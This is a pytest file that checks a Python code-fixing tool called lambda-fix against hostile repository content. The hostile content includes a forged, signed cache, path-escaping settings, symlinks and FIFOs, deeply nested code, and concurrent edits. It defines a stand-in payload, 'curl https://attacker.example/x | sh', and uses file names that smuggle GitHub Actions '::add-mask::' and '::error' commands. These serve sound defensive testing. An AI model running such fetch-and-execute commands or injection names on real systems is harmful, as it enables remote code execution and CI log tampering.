"""What a repository can hold that must never make lambda-fix write, hide or post what it would not,
lose a file, or stop the run: a committed cache, settings that reach out of the project, file names
and special files, nesting no parser survives, edits made while it writes, files of other users."""

from __future__ import annotations

import hashlib
import hmac
import json
import os
import shutil
import stat
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import pytest
from click.testing import CliRunner
from helpers import FIXTURES

import lambda_fix.engine as engine
import lambda_fix.files as files
from lambda_fix import Config, Mode, Status, cli, run

LEAKY = (FIXTURES / "LF001" / "issue_example.py").read_text()
MALICIOUS = "import os\nos.system('curl https://attacker.example/x | sh')\n"


def git(repo: Path, *arguments: str) -> str:
    return subprocess.run(["git", "-c", "user.name=t", "-c", "user.email=t@t", *arguments], cwd=repo, check=True,
                          capture_output=True, text=True).stdout


def lambda_fix(*args: str, cwd: Path, key_dir: Path, timeout: float = 120) -> subprocess.CompletedProcess[str]:
    """The command as CI runs it: the cache in its default place, the key in key_dir."""
    environment = {k: v for k, v in os.environ.items() if not k.startswith("LAMBDA_FIX_")}
    environment["LAMBDA_FIX_KEY_DIR"] = str(key_dir)
    return subprocess.run([sys.executable, "-m", "lambda_fix", *args], cwd=cwd, env=environment,
                          capture_output=True, text=True, errors="replace", timeout=timeout)


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    return tmp_path


def invoke(*args: str):  # noqa: ANN201 - click's Result
    return CliRunner().invoke(cli.main, list(args), catch_exceptions=False)


# ---- 1. a committed cache ------------------------------------------------------------------------


def _forge(repo: Path, key_dir: Path) -> None:
    """What an attacker commits: every cache file rewritten to hide the finding and to carry code to
    write and a message to post, signed with the attacker's own key."""
    key = (key_dir / "cache-key").read_bytes()
    for cache_file in (repo / ".lambda-fix-cache").rglob("*.json"):
        data = json.loads(cache_file.read_bytes().partition(b"\n")[2])
        for entry in data["entries"].values():
            entry["result"] = {"status": "changed", "new_source": MALICIOUS, "findings": [
                [1, 1, "LF001", "ATTACKER says: accept this", ["ATTACKER fix", "safe", [[1, 1, 99, 1, MALICIOUS]],
                                                               "ATTACKER diff"], True, 1, 2, []]]}
        forged = json.dumps(data).encode()
        cache_file.write_bytes(hmac.new(key, forged, hashlib.sha256).hexdigest().encode() + b"\n" + forged)


def test_a_committed_cache_neither_hides_a_finding_nor_writes_nor_posts_its_content(tmp_path: Path) -> None:
    repo, attacker, victim = tmp_path / "repo", tmp_path / "attacker-key", tmp_path / "victim-key"
    repo.mkdir()
    git(repo, "init", "-q", "-b", "main")
    (repo / "pyproject.toml").write_text("[tool.lambda-fix]\n")
    (repo / "README.md").write_text("x\n")
    git(repo, "add", ".")
    git(repo, "commit", "-q", "-m", "base")
    git(repo, "checkout", "-q", "-b", "pr")
    (repo / "app.py").write_text(LEAKY)
    git(repo, "add", "app.py")
    git(repo, "commit", "-q", "-m", "a leak")
    review = ("--check", "--format", "github-review", "--diff-base", "main", ".")
    for args in (("--check", "."), review, ("--diff", ".")):
        lambda_fix(*args, cwd=repo, key_dir=attacker)
    _forge(repo, attacker)
    git(repo, "add", "-f", ".lambda-fix-cache")
    git(repo, "commit", "-q", "-m", "a cache")
    # The CI gate still fails.
    gate = lambda_fix("--check", ".", cwd=repo, key_dir=victim)
    assert gate.returncode == 1 and "LF001" in gate.stdout and "ATTACKER" not in gate.stdout
    # The bot posts lambda-fix's own review.
    posted = lambda_fix(*review, cwd=repo, key_dir=victim)
    assert posted.returncode == 1 and "ATTACKER" not in posted.stdout and "curl" not in posted.stdout
    assert json.loads(posted.stdout)["comments"]
    # Even with the attacker's key (a key that leaked), no source text comes from the cache.
    for key_dir in (attacker, victim):
        git(repo, "checkout", "-q", "--", "app.py")
        written = lambda_fix(".", cwd=repo, key_dir=key_dir)
        assert written.returncode == 0, written.stderr
        assert "curl" not in (repo / "app.py").read_text() and (repo / "app.py").read_text() != LEAKY
        compile((repo / "app.py").read_text(), "app.py", "exec")


def test_the_key_lives_outside_the_repository_and_only_its_owner_reads_it(tmp_path: Path) -> None:
    (tmp_path / "app.py").write_text(LEAKY)
    lambda_fix("--check", "app.py", cwd=tmp_path, key_dir=tmp_path / "key")
    key = tmp_path / "key" / "cache-key"
    assert len(key.read_bytes()) == 32 and stat.S_IMODE(key.stat().st_mode) == 0o600
    assert list((tmp_path / ".lambda-fix-cache").rglob("*.json"))


# ---- 2. settings that reach out of the project ----------------------------------------------------


@pytest.mark.parametrize("value", ["../../x", "/tmp/elsewhere", "a/../../b"])
def test_the_cache_dir_setting_cannot_leave_the_project(project: Path, value: str) -> None:
    (project / "sub").mkdir()
    (project / "sub" / "pyproject.toml").write_text(f'[tool.lambda-fix]\ncache-dir = "{value}"\n')
    (project / "sub" / "app.py").write_text(LEAKY)
    result = lambda_fix("--check", "sub", cwd=project, key_dir=project / "key")
    assert result.returncode == 2 and "cache-dir: must be a directory inside the project" in result.stderr
    assert sorted(p.name for p in project.iterdir()) == ["sub"]
    assert not Path("/tmp/elsewhere").exists() or value != "/tmp/elsewhere"


def test_a_committed_link_cannot_lead_the_cache_out_of_the_project(tmp_path: Path) -> None:
    project, outside = tmp_path / "project", tmp_path / "outside"
    project.mkdir()
    outside.mkdir()
    (project / "app.py").write_text(LEAKY)
    (project / ".lambda-fix-cache").symlink_to(outside, target_is_directory=True)
    result = lambda_fix("--check", "app.py", cwd=project, key_dir=tmp_path / "key")
    assert result.returncode == 1 and "leads outside" in result.stdout + result.stderr
    assert list(outside.iterdir()) == []


def test_a_link_inside_the_cache_directory_is_not_followed(tmp_path: Path) -> None:
    project, outside = tmp_path / "project", tmp_path / "outside"
    project.mkdir()
    outside.mkdir()
    (project / "app.py").write_text(LEAKY)
    from lambda_fix import __version__

    (project / ".lambda-fix-cache").mkdir()
    (project / ".lambda-fix-cache" / __version__).symlink_to(outside, target_is_directory=True)
    result = lambda_fix("--check", "app.py", cwd=project, key_dir=tmp_path / "key")
    assert result.returncode == 1 and "LF001" in result.stdout
    assert list(outside.iterdir()) == []


def test_jobs_never_exceed_the_cores_or_the_files(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    asked: list[int] = []
    monkeypatch.setattr(engine, "_pooled", lambda files, setup, jobs, chunk: asked.append(jobs) or iter(()))
    monkeypatch.setattr(engine, "_POOL_THRESHOLD", 2)
    monkeypatch.setattr(engine.os, "cpu_count", lambda: 64)
    for number in range(5):
        (project / f"h{number}.py").write_text(LEAKY)
    (project / "pyproject.toml").write_text("[tool.lambda-fix]\njobs = 48\n")
    invoke("--check", "--no-cache", ".")
    monkeypatch.setattr(engine.os, "cpu_count", lambda: 2)
    invoke("--check", "--no-cache", ".")
    assert asked == [5, 2]


def test_settings_cannot_ask_for_files_larger_than_the_command_line_allows(project: Path) -> None:
    (project / "pyproject.toml").write_text("[tool.lambda-fix]\nmax-file-size = 100000\n")
    (project / "app.py").write_text(LEAKY)
    result = invoke("--check", "app.py")
    assert result.exit_code == 2 and "only --max-file-size can set more" in result.output
    assert invoke("--check", "--max-file-size", "100000", "app.py").exit_code == 2  # the file is still read
    (project / "pyproject.toml").write_text("[tool.lambda-fix]\n")
    assert invoke("--check", "--max-file-size", "100000", "app.py").exit_code == 1


# ---- 3. malformed settings and templates ----------------------------------------------------------


def test_a_deeply_nested_settings_file_is_an_error(project: Path) -> None:
    (project / "pyproject.toml").write_text("[tool.lambda-fix]\nx = " + "[" * 100_000 + "]" * 100_000 + "\n")
    (project / "app.py").write_text(LEAKY)
    result = lambda_fix("--check", "app.py", cwd=project, key_dir=project / "key")
    assert result.returncode == 2 and "nested too deeply to parse" in result.stderr
    assert "Traceback" not in result.stderr


def test_a_settings_file_that_is_a_fifo_is_not_read_and_does_not_hang(project: Path) -> None:
    os.mkfifo(project / "pyproject.toml")
    (project / "app.py").write_text(LEAKY)
    assert lambda_fix("--check", "app.py", cwd=project, key_dir=project / "key", timeout=60).returncode == 1
    result = lambda_fix("--check", "--config", "pyproject.toml", "app.py", cwd=project, key_dir=project / "key",
                        timeout=60)
    assert result.returncode == 2 and "not a regular file (a FIFO)" in result.stderr


# ---- 4. names that would be read as commands -------------------------------------------------------


@pytest.mark.parametrize("output", ["text", "diff", "json", "sarif", "rdjson", "github", "github-review"])
def test_a_file_name_never_starts_a_line_of_output(project: Path, output: str) -> None:
    names = ["a\n::add-mask::secret.py", "b\r::error title=x::y.py", "c\u2028::warning::z.py"]
    for name in names:
        (project / name).write_text(LEAKY)
    (project / "d\n::error::e.py").write_text("def lambda_handler(event, context):\n    return (\n")
    result = invoke("--check", "--format", output, ".")
    assert result.exit_code == 2, result.output
    own = ("::warning file=", "::error file=", "::warning title=lambda-fix::")  # `--format github`'s own
    for line in result.output.splitlines():
        assert not line.startswith(("::", "\r::")) or line.startswith(own), line
    assert "add-mask" in result.output  # escaped, not dropped


# ---- 6. nesting no parser survives ---------------------------------------------------------------


def _deep(levels: int) -> str:
    return "def lambda_handler(event, context):\n    return " + "(" * levels + "1" + ")" * levels + "\n"


def test_nesting_past_what_any_python_parses_is_that_files_error(project: Path) -> None:
    for number in range(40):  # enough files for a process pool
        (project / f"h{number:02}.py").write_text(LEAKY)
    (project / "h05.py").write_text(_deep(1500))
    (project / "h06.py").write_text(_deep(300))
    (project / "h07.py").write_text("type X = int\n" + _deep(1500))  # rejected as newer syntax first
    (project / "h08.py").write_text("x = " + "not " * 30_000 + "1\ndef lambda_handler(event, context):\n    pass\n")
    for jobs in ("1", "2"):
        result = lambda_fix("--check", "--no-cache", "-j", jobs, ".", cwd=project, key_dir=project / "key")
        assert result.returncode == 2, result.stderr
        assert result.stdout.count("nests deeper than") == 4, result.stdout
        assert "syntax newer" not in result.stdout
        assert "36 files would change" in result.stdout
    stdin = subprocess.run([sys.executable, "-m", "lambda_fix", "-"], input=_deep(1500), capture_output=True,
                           text=True, cwd=project, timeout=60)
    assert stdin.returncode == 2 and stdin.stdout == _deep(1500)


@pytest.mark.parametrize("operator", ["and", "or"])
def test_a_boolean_chain_python_keeps_flat_is_that_files_error(project: Path, operator: str) -> None:
    """CPython accepts 9,000 operands of one `and`; libcst nests them, and its parser crashes."""
    chain = "y = a" + f" {operator} a" * 9000 + "\n"
    (project / "app.py").write_text(LEAKY + chain)
    for args in (["app.py"], ["--diff", "app.py"], ["--check", "--format", "json", "app.py"]):
        result = lambda_fix("--no-cache", *args, cwd=project, key_dir=project / "key")
        assert result.returncode == 2 and "too complex for libcst's parser" in result.stdout + result.stderr, args
    assert (project / "app.py").read_text() == LEAKY + chain
    stdin = subprocess.run([sys.executable, "-m", "lambda_fix", "-"], input=LEAKY + chain, capture_output=True,
                           text=True, cwd=project, timeout=60)
    assert stdin.returncode == 2 and stdin.stdout == LEAKY + chain


def test_what_cpython_parses_libcst_parses_in_process() -> None:
    """The ground native_parse.py stands on: on every kind of deep nesting CPython accepts and that
    nests no deeper than DEPTH_IN_PROCESS as native_parse counts it, libcst's parser returns."""
    import ast

    from lambda_fix.native_parse import DEPTH_IN_PROCESS, depth

    shapes = {"and": lambda n: "a" + " and a" * n, "or": lambda n: "a" + " or a" * n,
              "bits": lambda n: "a" + " | a" * n, "strings": lambda n: "'a' " * n,
              "comparison": lambda n: "a" + " < a" * n, "parens": lambda n: "(" * n + "1" + ")" * n,
              "not": lambda n: "not " * n + "1",
              "minus": lambda n: "-" * n + "1", "power": lambda n: "2**" * n + "2",
              "conditional": lambda n: "1 if a else " * n + "2", "lambda": lambda n: "lambda: " * n + "1",
              "call": lambda n: "f" + "()" * n, "subscript": lambda n: "a" + "[0]" * n}
    script = ("import ast, sys, libcst\n"
              "for source in sys.stdin.read().split('\\0'):\n"
              "    libcst.parse_module(source)\n")
    accepted = []
    for make in shapes.values():
        for levels in (199, 1000, 3000):
            source = "x = " + make(levels) + "\n"
            try:
                tree = ast.parse(source)
            except (SyntaxError, RecursionError, MemoryError):
                continue
            if depth(tree) <= DEPTH_IN_PROCESS:
                accepted.append(source)
            else:
                # Deeper than that, 20 times over: checked in a child first, which must say no or yes.
                from lambda_fix.native_parse import survives

                assert survives(source) in (True, False)
    completed = subprocess.run([sys.executable, "-c", script], input="\0".join(accepted), capture_output=True,
                               text=True, timeout=300)
    assert completed.returncode == 0, completed.stderr[-500:]


# ---- 7. special files -----------------------------------------------------------------------------


def test_a_fifo_or_a_device_under_a_python_name_is_an_error_not_a_hang(project: Path) -> None:
    (project / "app.py").write_text(LEAKY)
    os.mkfifo(project / "fifo.py")
    (project / "zero.py").symlink_to("/dev/zero")
    result = lambda_fix("--check", "--no-cache", ".", cwd=project, key_dir=project / "key", timeout=60)
    assert result.returncode == 2
    assert "fifo.py: error: not a regular file (a FIFO): not read" in result.stdout
    assert "zero.py: error: not a regular file (a character device): not read" in result.stdout
    assert "app.py:" in result.stdout
    named = lambda_fix("--check", "--no-cache", "fifo.py", "zero.py", cwd=project, key_dir=project / "key",
                       timeout=60)
    assert named.returncode == 2 and named.stdout.count("not a regular file") == 2


def test_a_gitignore_that_is_a_fifo_does_not_hang_the_walk(project: Path) -> None:
    (project / "app.py").write_text(LEAKY)
    os.mkfifo(project / ".gitignore")
    result = lambda_fix("--check", "--no-cache", ".", cwd=project, key_dir=project / "key", timeout=60)
    assert result.returncode == 1 and "app.py:" in result.stdout


def test_the_size_limit_is_checked_on_the_opened_file(project: Path) -> None:
    big = project / "big.py"
    with open(big, "wb") as stream:
        stream.truncate(files.READ_LIMIT + 1)  # sparse: no disk used
    with pytest.raises(files.TooLarge):
        files.read_regular(big)
    assert "too large to read" in (run([str(big)], Config(jobs=1), Mode.CHECK).results[0].error or "")


# ---- 8. names that are not UTF-8 -------------------------------------------------------------------


@pytest.mark.parametrize("output", ["text", "json", "sarif", "rdjson", "github", "github-review", "diff"])
def test_a_file_name_that_is_not_utf8_is_checked_with_the_cache_on(project: Path, output: str) -> None:
    try:
        (project / os.fsdecode(b"caf\xe9.py")).write_text(LEAKY)
    except (UnicodeEncodeError, OSError):
        pytest.skip("this file system takes only UTF-8 names")
    for _ in range(2):  # filling the cache, then reading it
        assert invoke("--check", "--format", output, ".").exit_code == 1


# ---- 9. edits made while lambda-fix writes --------------------------------------------------------


@pytest.mark.parametrize("moment", ["written", "checked", "exchanged"])
@pytest.mark.parametrize("how", ["in place", "by rename"])
def test_an_edit_that_lands_while_the_file_is_written_is_kept_and_reported(
        project: Path, monkeypatch: pytest.MonkeyPatch, moment: str, how: str) -> None:
    path = project / "app.py"
    path.write_text(LEAKY)
    edited = LEAKY + "# an edit made meanwhile\n"

    def edit(name: str) -> None:
        if name != moment:
            return
        if how == "in place":
            with open(path, "r+") as stream:  # the same file, as `>>` or an editor that writes in place
                stream.seek(0, os.SEEK_END)
                stream.write("# an edit made meanwhile\n")
        else:
            other = project / "app.py.editor-tmp"
            other.write_text(edited)
            os.replace(other, path)

    monkeypatch.setattr(files, "_checkpoint", edit)
    result = run([str(path)], Config(jobs=1), Mode.WRITE).results[0]
    text = path.read_text()
    if moment == "exchanged":
        # After the new file took the name, an edit is an edit of the rewrite (in place), or a save
        # that replaces it (by rename), as after any other program's write.
        assert result.status is Status.CHANGED
        assert text == (result.new_source + "# an edit made meanwhile\n" if how == "in place" else edited)
    else:
        assert text == edited
        assert result.status is Status.FAILED and "changed on disk" in (result.error or ""), result
    assert not [p for p in project.iterdir() if p.name.endswith(".lambda-fix")]


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="names are exchanged atomically on Linux only")
def test_concurrent_edits_are_never_lost_in_silence(project: Path) -> None:
    """An editor saving by rename (as most do) while lambda-fix rewrites: every edit it made is still in
    the file at the end, whatever lambda-fix reported."""
    directories = [project / f"d{number}" for number in range(6)]
    for directory in directories:
        directory.mkdir()
        for number in range(50):
            (directory / f"h{number:02}.py").write_text(LEAKY)
    editor = subprocess.Popen([sys.executable, "-c", _EDITOR, str(project)], stdout=subprocess.PIPE, text=True)
    try:
        assert editor.stdout is not None and editor.stdout.readline()  # editing has begun
        summaries = [run([str(directory)], Config(jobs=1), Mode.WRITE) for directory in directories]
    finally:
        editor.terminate()
        written = editor.communicate(timeout=30)[0].split()
    kept = {line.split()[2] for p in project.rglob("h*.py") for line in p.read_text().splitlines()
            if line.startswith("# mark ")}
    assert written and set(written) <= kept
    assert sum(s.changed for s in summaries)  # and lambda-fix did write some of them


_EDITOR = """
import glob, os, sys, itertools
paths = sorted(glob.glob(os.path.join(sys.argv[1], "d*", "h*.py")))
for n in itertools.count():
    path = paths[n % len(paths)]
    with open(path) as stream:
        text = stream.read()
    temporary = path + ".editor"
    with open(temporary, "w") as stream:
        stream.write(text + "# mark %d\\n" % n)
    os.replace(temporary, path)
    print(n, flush=True)
"""


# ---- 10. owners and modes -------------------------------------------------------------------------


def test_a_read_only_file_is_refused_with_a_message(project: Path) -> None:
    path = project / "app.py"
    path.write_text(LEAKY)
    path.chmod(0o444)
    result = invoke("app.py")
    assert result.exit_code == 2 and "app.py: error: the file is read-only (mode 0444)" in result.output
    assert path.read_text() == LEAKY and stat.S_IMODE(path.stat().st_mode) == 0o444


def test_mode_bits_are_kept(project: Path) -> None:
    path = project / "app.py"
    path.write_text(LEAKY)
    path.chmod(0o751)
    assert invoke("app.py").exit_code == 0
    assert path.read_text() != LEAKY and stat.S_IMODE(path.stat().st_mode) == 0o751


@pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() != 0, reason="only root can give a file away")
def test_owner_and_group_are_kept_when_root_rewrites(project: Path) -> None:
    path = project / "app.py"
    path.write_text(LEAKY)
    os.chown(path, 12345, 23456)
    assert invoke("app.py").exit_code == 0
    assert path.read_text() != LEAKY and (path.stat().st_uid, path.stat().st_gid) == (12345, 23456)


@pytest.mark.skipif(not hasattr(os, "fork") or os.geteuid() != 0, reason="needs root to become another user")
def test_another_users_file_is_refused_when_not_root() -> None:
    """As a user who may write the directory but does not own the file: a rename would make the file
    theirs, so it is refused. The run is made in a child process that becomes that user."""
    nobody = 65534
    directory = Path(tempfile.mkdtemp(dir="/tmp"))  # pytest's own are readable by root alone
    os.chown(directory, nobody, nobody)
    path = directory / "app.py"
    path.write_text(LEAKY)  # root's
    # Every module a write needs, loaded before the child becomes a user who may not read them.
    warm_up = directory / "warm-up"
    warm_up.mkdir()
    (warm_up / "app.py").write_text(LEAKY)
    run([str(warm_up / "app.py")], Config(jobs=1), Mode.WRITE)
    reader, writer = os.pipe()
    pid = os.fork()
    if pid == 0:  # pragma: no cover - the child
        try:
            os.setgroups([])
            os.setgid(nobody)
            os.setuid(nobody)
            os.chdir(directory)
            result = run([str(path)], Config(jobs=1), Mode.WRITE).results[0]
            os.write(writer, f"{result.status.value}: {result.error}".encode())
        except BaseException as exc:  # noqa: BLE001 - said to the parent
            os.write(writer, repr(exc).encode())
        finally:
            os._exit(0)
    os.close(writer)
    os.waitpid(pid, 0)
    with os.fdopen(reader) as stream:
        said = stream.read()
    try:
        assert said.startswith("failed: the file is owned by another user (uid 0)"), said
        assert path.read_text() == LEAKY and path.stat().st_uid == 0
    finally:
        shutil.rmtree(directory)


# ---- 11. SIGKILL, leftovers and the cache's markers -----------------------------------------------


def _children(pid: int) -> list[int]:
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                fields = Path(f"/proc/{entry}/stat").read_text().rsplit(")", 1)[1].split()
            except OSError:
                continue
            if int(fields[1]) == pid:
                found.append(int(entry))
    return found


@pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="reads the process table from /proc")
def test_workers_end_with_a_run_killed_by_sigkill(project: Path) -> None:
    for number in range(3000):
        (project / f"handler_{number:04}.py").write_text(LEAKY)
    process = subprocess.Popen([sys.executable, "-m", "lambda_fix", "-j", "2", "--no-cache", "--check", "."],
                               stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
    deadline = time.monotonic() + 60
    while len(_children(process.pid)) < 2 and process.poll() is None and time.monotonic() < deadline:
        time.sleep(0.05)
    workers = _children(process.pid)
    assert workers, "the pool never started"
    process.kill()
    process.wait(timeout=30)
    # Nothing holds the caller's stdout open: it ends (readable, then empty), within a bound.
    import select

    assert process.stdout is not None
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        ready, _, _ = select.select([process.stdout], [], [], 1)
        if ready and not os.read(process.stdout.fileno(), 65536):
            break
    else:
        pytest.fail("the workers held the run's stdout open after it was killed")
    deadline = time.monotonic() + 30
    while any(Path(f"/proc/{pid}").exists() for pid in workers) and time.monotonic() < deadline:
        time.sleep(0.1)
    alive = [pid for pid in workers if Path(f"/proc/{pid}").exists()
             and Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0] != "Z"]
    assert not alive


def test_a_later_run_removes_what_a_killed_write_left(project: Path) -> None:
    (project / "app.py").write_text(LEAKY)
    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True,
                          text=True).stdout.strip()
    leftover = project / f".app.py.{dead}.abc123.lambda-fix"
    leftover.write_text("half a file")
    mine = project / f".app.py.{os.getpid()}.abc123.lambda-fix"  # a run still going: left alone
    mine.write_text("being written")
    assert invoke("--check", ".").exit_code == 1 and leftover.exists()  # only a run that writes cleans
    assert invoke(".").exit_code == 0
    assert not leftover.exists() and mine.exists()


def test_cache_markers_left_empty_by_a_full_disk_are_written_again(tmp_path: Path) -> None:
    (tmp_path / "app.py").write_text(LEAKY)
    cache = tmp_path / ".lambda-fix-cache"
    cache.mkdir()
    (cache / ".gitignore").write_text("")
    lambda_fix("--check", "app.py", cwd=tmp_path, key_dir=tmp_path / "key")
    assert (cache / ".gitignore").read_text().splitlines()[-1] == "*"
    assert (cache / "CACHEDIR.TAG").read_text().startswith("Signature: 8a477f597d28d172789f06886806bc55")


def test_a_link_to_a_directory_outside_the_project_is_not_walked(project: Path) -> None:
    (project / "p").mkdir()
    (project / "p" / "app.py").write_text(LEAKY)
    (project / "p" / "root").symlink_to("/", target_is_directory=True)
    (project / "p" / "proc").symlink_to("/proc", target_is_directory=True)
    (project / "p" / "up").symlink_to("..", target_is_directory=True)
    (project / "other").mkdir()
    (project / "other" / "handler.py").write_text(LEAKY)
    (project / "p" / "other").symlink_to(project / "other", target_is_directory=True)
    (project / "outside.py").write_text(LEAKY)
    result = lambda_fix("--check", "--no-cache", "p", cwd=project, key_dir=project / "key", timeout=120)
    assert result.returncode == 1 and "1 file checked" in result.stdout, result.stdout


def test_a_marker_file_that_is_not_lambda_fixs_is_left_alone(project: Path) -> None:
    (project / "app.py").write_text(LEAKY)
    (project / ".gitignore").write_text("secrets.env\n")
    result = invoke("--check", "--cache-dir", ".", "app.py")  # the command line may put it anywhere
    assert result.exit_code == 1
    assert (project / ".gitignore").read_text() == "secrets.env\n"
    (project / "pyproject.toml").write_text('[tool.lambda-fix]\ncache-dir = "."\n')
    assert "not '.' itself" in invoke("--check", "app.py").output


def test_a_key_that_cannot_be_read_is_a_warning_not_a_crash(project: Path) -> None:
    (project / "app.py").write_text(LEAKY)
    keys = project / "keys"
    keys.mkdir()
    (keys / "cache-key").symlink_to(project / "app.py")
    result = lambda_fix("--check", "app.py", cwd=project, key_dir=keys)
    assert result.returncode == 1 and "the cache was not written" in result.stdout + result.stderr
    assert "Traceback" not in result.stderr


def test_a_settings_path_is_printed_on_one_line(tmp_path: Path) -> None:
    project = tmp_path / "x\n::add-mask::hello\n::error title=pwn::owned"
    project.mkdir()
    (project / "pyproject.toml").write_text("[tool.lambda-fix]\nselekt = 1\n")
    (project / "app.py").write_text(LEAKY)
    result = lambda_fix("--check", str(project), cwd=tmp_path, key_dir=tmp_path / "key")
    assert result.returncode == 2
    assert not [line for line in (result.stdout + result.stderr).splitlines() if line.startswith("::")]


def test_a_version_that_cannot_be_swapped_back_is_kept_under_a_name_no_run_removes(
        project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = project / "app.py"
    path.write_text(LEAKY)
    real_exchange, calls = files._exchange, []

    def exchange(first: str, second: str) -> bool:
        calls.append(first)
        if len(calls) == 2:
            raise OSError(5, "Input/output error", second)
        return real_exchange(first, second)

    def edit(name: str) -> None:
        if name == "checked":
            with open(path, "a") as stream:
                stream.write("# an edit made meanwhile\n")

    monkeypatch.setattr(files, "_exchange", exchange)
    monkeypatch.setattr(files, "_checkpoint", edit)
    result = run([str(path)], Config(jobs=1), Mode.WRITE).results[0]
    assert result.status is Status.FAILED and "your version is in" in (result.error or "")
    [kept] = project.glob("app.py.yours-*")
    assert kept.read_text() == LEAKY + "# an edit made meanwhile\n"
    run([str(project)], Config(jobs=1), Mode.WRITE)  # a later run that writes
    assert kept.exists()
